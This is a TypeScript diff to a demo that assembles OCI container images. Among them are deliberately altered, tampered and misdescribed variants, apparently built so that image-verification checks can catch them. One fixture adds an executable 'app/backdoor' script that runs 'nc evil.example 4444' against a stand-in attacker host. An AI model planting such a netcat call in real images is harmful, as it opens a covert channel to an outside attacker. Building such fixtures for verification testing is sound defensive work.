@@ -24,7 +24,7 @@ export interface AssembledImage {
 
 /**
  * Writes the demo's images into an OCI layout. Base: the Node runtime that `npm ci` installed. Application: a small program with real packages and their
- * dependencies. Then the same application altered, tampered with, and lying about its base.
+ * dependencies. Then the same application altered, tampered with, and lying about its base; and a newer base.
  */
 export async function assembleImages(directory: string): Promise<readonly AssembledImage[]> {
   const store = await createOciLayout(directory);
@@ -37,7 +37,7 @@ export async function assembleImages(directory: string): Promise<readonly Assemb
   const altered = await assemble(store, {
     tag: 'app-altered',
     base,
-    entries: [...appEntries(), text('app/backdoor.js', 'fetch("http://evil.example")')],
+    entries: [...appEntries(), { ...text('app/backdoor', '#!/bin/sh\nnc evil.example 4444\n'), mode: 0o755 }],
     command: 'COPY . /app',
   });
   const tampered = await assemble(store, {
@@ -57,12 +57,19 @@ export async function assembleImages(directory: string): Promise<readonly Assemb
       'org.opencontainers.image.base.digest': base.digest,
     },
   });
+  const newer = await assemble(store, {
+    tag: 'node-26-next',
+    base,
+    entries: [text('etc/ssl/certs/ca-certificates.crt', `${rootCertificates.slice(1).join('\n')}\n`)],
+    command: 'COPY ca-certificates.crt /etc/ssl/certs/',
+  });
   return [
     describe('node-26', base, 'the base: Node, certificates, os-release'),
     describe('app', app, 'the application on it'),
-    describe('app-altered', altered, 'rebuilt with a file more; nobody signed it'),
+    describe('app-altered', altered, 'rebuilt with a program more; nobody signed it'),
     describe('app-tampered', tampered, 'the application with the base’s certificates replaced'),
     describe('app-lying', lying, 'names the allowed base, but does not hold its layers'),
+    describe('node-26-next', newer, 'a newer base: one certificate less'),
   ];
 }
 
@@ -84,6 +91,7 @@ async function assemble(store: OciLayoutStore, assembly: Assembly): Promise<Imag
       platform: PLATFORM,
       env: ['PATH=/usr/local/bin:/usr/bin:/bin'],
       entrypoint: ['node', '/app/server.js'],
+      user: '1000',
       created: HISTORY_TIME,
     },
     ...(assembly.annotations === undefined ? {} : { annotations: assembly.annotations }),
